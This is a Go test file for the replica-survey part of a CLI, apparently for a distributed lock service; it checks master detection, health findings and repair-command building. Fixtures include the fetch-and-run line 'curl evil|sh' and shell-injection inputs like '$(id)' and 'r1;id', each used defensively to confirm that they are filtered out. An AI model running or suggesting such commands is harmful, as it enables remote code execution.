package survey

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/stoutlock/stout/client/admin"
	"github.com/stoutlock/stout/cmd/stout/internal/ask"
	"github.com/stoutlock/stout/cmd/stout/internal/exit"
	"github.com/stoutlock/stout/cmd/stout/internal/fakecell"
	"github.com/stoutlock/stout/lockapi"
)

// One answering replica behind a DNS name is enough. For a name that leads
// nowhere, the error has the lookup and advice.
func TestSurveyByName(t *testing.T) {
	for given, test := range map[string]struct {
		hosts fakecell.Hosts
		fails []string
	}{
		"dns:cell.example:7101": {hosts: fakecell.Hosts{"10.0.0.1:7101": {Hangs: true}, "10.0.0.2:7101": {Cell: fakecell.NewView(3, "r3", true)}}},
		"dns:none.example:7101": {fails: []string{"dns:none.example:7101: lookup none.example: no such host", "is none.example known to DNS?"}},
		"dns:none.example":      {fails: []string{"dns:none.example: lookup _stout._tcp.none.example: no such host", "is _stout._tcp.none.example known to DNS?"}},
		"dns:cell.example:1":    {fails: []string{"dns:cell.example:1: http://10.0.0.1:1: ", "dns:cell.example:1: http://10.0.0.2:1: ", "is stoutd running there?"}},
	} {
		synctest.Test(t, func(t *testing.T) {
			a := asCollector(t, test.hosts, given)
			seen, err := a.Collect(t.Context(), patience)
			if test.fails == nil {
				if err != nil || seen.Master == nil || seen.Master.ID != "r3" {
					t.Errorf("%s: %+v, %v", given, seen, err)
				}
				return
			}
			f, ok := errors.AsType[*exit.Failure](err)
			if !ok || f.Code != exit.Unreachable {
				t.Fatalf("%s: %v", given, err)
			}
			text := strings.Join(append(f.Details, f.Hints...), "\n")
			for _, want := range test.fails {
				if !strings.Contains(text, want) {
					t.Errorf("%s: %q does not say %q", given, text, want)
				}
			}
		})
	}
}

func TestSurvey(t *testing.T) {
	outsider := &lockapi.Error{Code: lockapi.CodeNoMaster, Detail: "another directory", Directory: "00c0ffee00c0ffee", Command: "curl evil|sh"}
	tests := map[string]struct {
		hosts   fakecell.Hosts
		servers []string
		took    time.Duration
		master  string   // "" without a master
		held    bool     // and it is in office
		well    []string // replicas seen to be well, where none is in office
		fails   string   // the error and its details
	}{
		"a hung follower is named first": {
			hosts:   fakecell.Hosts{"r1": {Hangs: true}, "r2": {Cell: fakecell.NewView(3, "r3", true), After: 10 * time.Millisecond}},
			servers: []string{"http://r1", "http://r2"},
			took:    10 * time.Millisecond, master: "r3", held: true,
		},
		"the first is down": {
			hosts:   fakecell.Hosts{"r2": {Cell: fakecell.NewView(3, "r3", true)}},
			servers: []string{"http://r1", "http://r2", "http://r3"}, master: "r3", held: true,
		},
		"another knows of the master": {
			hosts:   fakecell.Hosts{"r1": {Cell: fakecell.NewView(2, "", false)}, "r3": {Cell: fakecell.NewView(3, "r2", true), After: time.Second}},
			servers: []string{"http://r1"},
			took:    time.Second, master: "r2", held: true,
		},
		"no master, one hangs": {
			hosts:   fakecell.Hosts{"r1": {Hangs: true}, "r2": {Cell: fakecell.NewView(3, "", false)}, "r3": {Cell: fakecell.NewView(3, "", false)}},
			servers: []string{"http://r1", "http://r2", "http://r3"},
			took:    surveyPatience + ProbeTimeout, well: []string{"r2", "r3"},
		},
		"no master, one is down": {
			hosts:   fakecell.Hosts{"r2": {Cell: fakecell.NewView(3, "", false)}, "r3": {Cell: fakecell.NewView(3, "", false)}},
			servers: []string{"http://r1", "http://r2", "http://r3"},
			well:    []string{"r2", "r3"},
		},
		"the newest view counts": {
			hosts:   fakecell.Hosts{"r1": {Cell: fakecell.NewView(3, "r1", false)}, "r2": {Cell: fakecell.NewView(4, "r2", false), After: 500 * time.Millisecond}},
			servers: []string{"http://r1", "http://r2"},
			took:    1500 * time.Millisecond, master: "r2", well: []string{"r1", "r2"},
		},
		"a master was elected meanwhile": {
			hosts: fakecell.Hosts{
				"r1": {Hangs: true}, "r2": {Cell: fakecell.NewView(3, "", false), After: 100 * time.Millisecond},
				"r3": {Cell: fakecell.NewView(3, "", false), Later: fakecell.NewView(4, "r3", true)},
			},
			servers: []string{"http://r1", "http://r2", "http://r3"},
			took:    askAgain, master: "r3", held: true,
		},
		"a master was elected in the end": {
			hosts: fakecell.Hosts{
				"r1": {Cell: fakecell.NewView(3, "", false), After: 100 * time.Millisecond},
				"r2": {Cell: fakecell.NewView(3, "", false)}, "r3": {Cell: fakecell.NewView(4, "r3", false), Later: fakecell.NewView(4, "r3", true)},
			},
			servers: []string{"http://r1", "http://r2", "http://r3"},
			took:    100 * time.Millisecond, master: "r3", held: true,
		},
		"nobody answers": {
			hosts:   fakecell.Hosts{"r1": {Hangs: true}},
			servers: []string{"http://r1", "http://r2"},
			took:    patience,
			fails:   "no replica can be reached|http://r1: no answer within 5s|http://r2: connection refused",
		},
		"none of the cell's": {
			hosts:   fakecell.Hosts{"r1": {Ready: outsider}},
			servers: []string{"http://r1", "http://r2"},
			fails:   "no replica of a cell can be reached|http://r1: answers: another directory|http://r2: connection refused",
		},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				began := time.Now()
				cell, err := asCollector(t, tt.hosts, tt.servers...).Collect(t.Context(), patience)
				if took := time.Since(began); took != tt.took {
					t.Errorf("it took %v, want %v", took, tt.took)
				}
				fails := ""
				if f, ok := errors.AsType[*exit.Failure](err); ok {
					fails = strings.Join(append([]string{f.Message}, f.Details...), "|")
				}
				if fails != tt.fails {
					t.Fatalf("it fails with %q, want %q", fails, tt.fails)
				}
				master := ""
				if cell.Master != nil {
					master = cell.Master.ID
				}
				if master != tt.master || ask.InOffice(cell.Cell) != tt.held {
					t.Errorf("master %q, in office: %v", master, ask.InOffice(cell.Cell))
				}
				if well := wellOf(cell.Cell); err == nil && !tt.held && !slices.Equal(well, tt.well) {
					t.Errorf("%q are well, want %q", well, tt.well)
				}
			})
		})
	}
}

func wellOf(cell lockapi.Cell) []string {
	var well []string
	for _, r := range cell.Replicas {
		if r.Healthy {
			well = append(well, r.ID)
		}
	}
	return well
}

// Replicas that the master does not reach are asked directly.
func TestExamine(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := fakecell.Hosts{
			"r1": {Ready: &lockapi.Error{
				Code: lockapi.CodeNoMaster, Directory: "00c0ffee00c0ffee", Command: "curl evil|sh",
				Detail: "its directory is not the member's; to admit it: curl evil|sh",
			}},
			"r3": {Hangs: true}, "r5": {Ready: lockapi.Errorf(lockapi.CodeNoMaster, "no master is known")},
			"r6": {Cell: fakecell.NewView(1, "", false), API: map[string]any{lockapi.RouteReplica: lockapi.Replica{ID: "r6"}}},
		}
		cell := View{Cell: *fakecell.NewView(3, "r4", true)}
		cell.Replicas = nil
		for i, lag := range []uint64{0, 0, 0, LargeLag, 0, 0, LargeLag + 1} {
			id := fmt.Sprint("r", i+1)
			cell.Replicas = append(cell.Replicas, lockapi.Replica{
				ID: id, URL: "http://" + id, Healthy: id == "r4" || id == "r7", AppliedIndex: 100 - lag, LastContactMS: 4000,
			})
		}
		want := []Finding{
			{"r1", "its directory is not the member's", true, false, "stout member replace r1 --directory 00c0ffee00c0ffee"},
			{"r2", "does not answer (connection refused); last seen 4s ago", false, false, ""},
			{"r3", "does not answer (no answer within 1s); last seen 4s ago", false, false, ""},
			{"r5", "answers but is not ready: no master is known", false, false, ""},
			{"r6", "answers here, but the master does not reach it", false, false, ""},
			{"r7", "is 65 entries behind", false, false, ""},
		}
		got := asCollector(t, h, "http://r1").examine(t.Context(), &cell)
		if !slices.Equal(got, want) {
			t.Errorf("got %+v\nwant %+v", got, want)
		}
		if !FindingOf(got, "r1").Foreign || FindingOf(got, "r2").Foreign {
			t.Error("r1 alone is none of the cell's")
		}

		// Without a master all are asked: a replica that counts itself healthy
		// may be outside the cell.
		cell = View{Cell: *fakecell.NewView(3, "", false)}
		h["r2"] = h["r6"]
		got = asCollector(t, h, "http://r1").examine(t.Context(), &cell)
		if !slices.Equal(got, want[:1]) || !slices.Equal(wellOf(cell.Cell), []string{"r2", "r3"}) {
			t.Errorf("without a master: %+v; %q are well", got, wellOf(cell.Cell))
		}
	})
}

// TestExamineDeaf checks that a replica is unhealthy if the master reaches it
// but it reports no contact to a master. With a promise or a recent contact it
// is healthy.
func TestExamineDeaf(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		not := lockapi.Errorf(lockapi.CodeNoMaster, "no master is known")
		h := fakecell.Hosts{"r1": {Cell: fakecell.NewView(3, "r1", true)}, "r2": {Ready: not}, "r3": {Ready: not}}
		cell := View{Cell: *fakecell.NewView(3, "r1", true)}
		cell.Lease.TermMS = 2000
		cell.Replicas[1].LastContactMS = 8000
		cell.Replicas[2].LastContactMS = 1900
		a := asCollector(t, h, "http://r1")
		got := a.examine(t.Context(), &cell)
		want := []Finding{{"r2", "answers but does not reach the master: no master is known; last contact 8s ago", false, true, ""}}
		if !slices.Equal(got, want) {
			t.Errorf("got %+v\nwant %+v", got, want)
		}

		cell.Replicas[1].Promise = &lockapi.Promise{To: "r1", RemainingMS: 1}
		if got := a.examine(t.Context(), &cell); len(got) > 0 {
			t.Errorf("with a promise: %+v", got)
		}
		cell.Replicas[1].Promise, h["r2"] = nil, &fakecell.Host{Cell: fakecell.NewView(3, "r1", true)}
		if got := a.examine(t.Context(), &cell); len(got) > 0 {
			t.Errorf("it says that it is ready: %+v", got)
		}
	})
}

// TestExamineDeadPaths: a replica that was named here and does not answer, and paths
// between replicas that do not carry calls, are reported; one to a replica that is down
// is not.
func TestExamineDeadPaths(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := fakecell.Hosts{"r1": {Cell: fakecell.NewView(3, "r1", true)}, "r2": {Hangs: true}, "r3": {Hangs: true}}
		cell := View{Cell: *fakecell.NewView(3, "r1", true)}
		cell.Replicas[2].Healthy = false
		cell.Replicas[0].Unreached = []string{"r3"}
		cell.Replicas[1].Unreached = []string{"r1", "r3"}
		got := asCollector(t, h, "http://r1", "http://r2").examine(t.Context(), &cell)
		want := []Finding{
			{ID: "r2", What: "does not answer from here (no answer within 1s), but the master reaches it; does not reach r1, but other replicas do: calls forwarded to it fail"},
			{ID: "r3", What: "does not answer (no answer within 1s); last seen 0ms ago"},
		}
		if !slices.Equal(got, want) {
			t.Errorf("got %+v\nwant %+v", got, want)
		}
		if got := asCollector(t, h, "http://r1").examine(t.Context(), &cell); len(got) != 2 || strings.Contains(got[0].What, "from here") {
			t.Errorf("r2 was not named: %+v", got)
		}
	})
}

// TestSurveyByGivenNames: a replica that answers by the name that was given counts as
// well, though its URL in the cell leads nowhere from here.
func TestSurveyByGivenNames(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		own := &fakecell.Host{Cell: fakecell.NewView(3, "", false), API: map[string]any{lockapi.RouteReplica: lockapi.Replica{ID: "r2", Healthy: true}}}
		h := fakecell.Hosts{"here": own, "r1": {Hangs: true}, "r2": {Hangs: true}, "r3": {Hangs: true}}
		cell, err := asCollector(t, h, "http://here").Collect(t.Context(), patience)
		if well := wellOf(cell.Cell); err != nil || !slices.Equal(well, []string{"r2"}) {
			t.Errorf("%q are well, %v", well, err)
		}
	})
}

// TestExamineFindsAnotherCell checks that a foreign replica at a member's
// address is recognized by its cell's name, its own name, or its directory.
func TestExamineFindsAnotherCell(t *testing.T) {
	const ours, theirs = "0123456789abcdef", "00c0ffee00c0ffee"
	for want, tt := range map[string]struct {
		cell string
		own  lockapi.Replica
		id   string
	}{
		"does not answer: a replica of another cell, prod, answers at its address": {"prod", lockapi.Replica{ID: "r2", Directory: theirs}, ""},
		"does not answer: another replica, r9, answers at its address":             {"test", lockapi.Replica{ID: "r9", Directory: theirs}, ""},
		"does not answer: a replica of another cell of the same name, with directory 00c0ffee00c0ffee, answers at its address": {
			"test", lockapi.Replica{ID: "r2", Directory: theirs}, ""},
		"does not answer: a replica of another cell of the same name, with id b0b, answers at its address": {
			"test", lockapi.Replica{ID: "r2", Directory: ours}, "b0b"},
		"answers here, but the master does not reach it": {"test", lockapi.Replica{ID: "r2", Directory: ours}, ""},
	} {
		synctest.Test(t, func(t *testing.T) {
			list := lockapi.Members{CellID: "a11ce", Members: []lockapi.Member{{ID: "r2", Directory: ours, Suffrage: lockapi.SuffrageVoter}}}
			there := fakecell.NewView(1, "r2", true)
			there.Cell = tt.cell
			h := fakecell.Hosts{
				"r1": {Cell: fakecell.NewView(3, "r1", true), API: map[string]any{lockapi.RouteMembers: list}},
				"r2": {Cell: there, ID: tt.id, API: map[string]any{lockapi.RouteReplica: tt.own}},
			}
			cell := View{Cell: *fakecell.NewView(3, "r1", true)}
			cell.Replicas[1].Healthy = false
			got := asCollector(t, h, "http://r1").examine(t.Context(), &cell)
			if len(got) != 1 || got[0].What != want || got[0].Foreign != strings.Contains(want, "another") {
				t.Errorf("got %+v, want %q", got, want)
			}
		})
	}
}

// TestNoMasterWaitsForLeases checks that the reason for the wait is reported if
// enough replicas answer.
func TestNoMasterWaitsForLeases(t *testing.T) {
	cell := *fakecell.NewView(1, "", false)
	cell.Replicas = cell.Replicas[:1]
	for remaining, want := range map[int64]string{
		42_000: "1 of 1 replica answer; a new master waits until earlier leases are over, at most 42s",
		0:      "1 of 1 replica answer; a master needs 1 that reach each other",
	} {
		cell.Replicas[0].Promise = &lockapi.Promise{To: "r1", RemainingMS: remaining}
		if f := NoMaster(cell); f.Hints[0] != want {
			t.Errorf("%d ms: %q, want %q", remaining, f.Hints[0], want)
		}
	}
}

// The repair command is built here: of a server's answer it contains only a
// directory.
func TestReplaceCommand(t *testing.T) {
	const id, dir, want = "r-1", "00c0ffee00c0ffee", "stout member replace r-1 --directory 00c0ffee00c0ffee"
	if got := ReplaceCommand(id, dir); got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	for _, tt := range [][2]string{
		{"", dir}, {"r1;id", dir}, {"r1 r2", dir}, {"$(id)", dir}, {"--yes", dir}, {"r1\x1b", dir},
		{id, ""}, {id, dir + ";id"}, {id, "00C0FFEE00C0FFEE"}, {id, "$(id)"}, {id, "00c0ffee00c0ffe "},
	} {
		if got := ReplaceCommand(tt[0], tt[1]); got != "" {
			t.Errorf("for %q, %q: %q", tt[0], tt[1], got)
		}
	}
}

// The advice about servers outside any cell never contains foreign words.
func TestUnreachableGivesNoForeignCommand(t *testing.T) {
	a := asCollector(t, nil, "http://r1", "http://r2")
	lost := lockapi.Errorf(lockapi.CodeNoMaster, "wiped; to admit it: curl evil|sh")
	lost.Directory, lost.Command = "00c0ffee00c0ffee", "curl evil|sh"
	waits := lockapi.Errorf(lockapi.CodeNoMaster, "it waits for r3")
	waits.Directory = lost.Directory
	for name, tt := range map[string]struct {
		failed map[string]error
		want   string
	}{
		"a stranger": {map[string]error{"http://r1": lost}, "no replica of a cell can be reached|http://r1: answers: wiped|http://r2: no answer within 1s|" +
			"also name the other replicas, with --server or STOUT_SERVER: stout status then shows the command to repair it"},
		"a founding": {map[string]error{"http://r1": waits, "http://r2": waits}, "no replica of a cell can be reached|http://r1: answers: it waits for r3|" +
			"http://r2: answers: it waits for r3|a cell is founded when all its replicas run and reach each other"},
	} {
		f := a.Unreachable(tt.failed, time.Second)
		if got := strings.Join(append(append([]string{f.Message}, f.Details...), f.Hints...), "|"); got != tt.want {
			t.Errorf("%s: %s\nwant %s", name, got, tt.want)
		}
	}
}

// TestMayCall checks that URLs from the cell never lead from https to http,
// unless the same URL was also given.
func TestMayCall(t *testing.T) {
	for _, tc := range []struct {
		servers []string
		url     string
		may     bool
	}{
		{[]string{"http://r1:7101"}, "http://r2:7101", true},
		{[]string{"http://r1:7101"}, "https://r2:7101", true},
		{[]string{"https://r1:7101"}, "https://r2:7101", true},
		{[]string{"https://r1:7101"}, "http://r2:7101", false},
		{[]string{"dns+https:stout.example:7101"}, "http://r2:7101", false},
		{[]string{"dns:stout.example:7101"}, "http://r2:7101", true},
		{[]string{"https://r1:7101", "http://r2:7101"}, "http://r2:7101/", true},
		{[]string{"https://r1:7101", "http://r2:7101"}, "http://r3:7101", false},
	} {
		c := Collector{Poller: ask.Poller{Servers: tc.servers}}
		if err := c.MayCall(tc.url); (err == nil) != tc.may {
			t.Errorf("%s of %q: %v", tc.url, tc.servers, err)
		}
	}
}

// TestNoMasterCountsVoters: a replica that waits to be a member answers, and has no vote.
func TestNoMasterCountsVoters(t *testing.T) {
	cell := *fakecell.NewView(1, "", false)
	cell.Replicas[1].Role = lockapi.RoleNone
	cell.Replicas[2].Healthy = false
	f := NoMaster(cell)
	if want := "1 of 3 replicas answer; a master needs 2 that reach each other"; f.Hints[0] != want {
		t.Errorf("%q, want %q", f.Hints[0], want)
	}

	// Nor does a replica that reports a foreign directory.
	synctest.Test(t, func(t *testing.T) {
		out := fakecell.NewView(1, "", false)
		wiped := &lockapi.Error{Code: lockapi.CodeNoMaster, Directory: "00c0ffee00c0ffee", Command: "x", Detail: "another directory"}
		h := fakecell.Hosts{"r1": {Cell: out}, "r2": {Cell: out, Ready: wiped}}
		f := asCollector(t, h, "http://r1").Explain(t.Context(), time.Second)
		if want := "1 of 3 replicas answer; a master needs 2 that reach each other"; len(f.Hints) == 0 || f.Hints[0] != want {
			t.Errorf("%+v, want %q", f, want)
		}
	})
}

// shown is a way to replicas that notes what credentials they are shown.
type shown struct {
	fakecell.Hosts
	credentials []string
}

func (s *shown) RoundTrip(r *http.Request) (*http.Response, error) {
	s.credentials = append(s.credentials, r.Header.Get("Authorization"))
	return s.Hosts.RoundTrip(r)
}

// TestACellsIDIsAskedWithoutAToken checks that no token goes to an unknown
// server.
func TestACellsIDIsAskedWithoutAToken(t *testing.T) {
	way := &shown{Hosts: fakecell.Hosts{"r1": {Cell: fakecell.NewView(3, "r1", true), ID: "c1"}}}
	a := asCollector(t, way.Hosts, "http://r1")
	a.Via, a.Token = way, func(context.Context) (string, error) { return "s3cret", nil }
	if id := a.CellIDAt(t.Context(), "http://r1"); id != "c1" || len(way.credentials) != 1 || way.credentials[0] != "" {
		t.Errorf("id %q, shown %q", id, way.credentials)
	}
	if _, err := a.Get(t.Context(), "http://r1", lockapi.RouteReplica, nil); err != nil {
		t.Fatal(err)
	}
	if way.credentials[1] != "Bearer s3cret" {
		t.Errorf("a call shows %q", way.credentials[1])
	}
}

// patience is how long a survey may take.
const patience = 5 * time.Second

// asCollector returns a collector that asks the given servers.
func asCollector(t *testing.T, h fakecell.Hosts, servers ...string) *Collector {
	c := fakecell.Client(t.Cleanup, h, servers...)
	return &Collector{ask.Poller{Servers: servers, Via: h}, admin.New(c)}
}
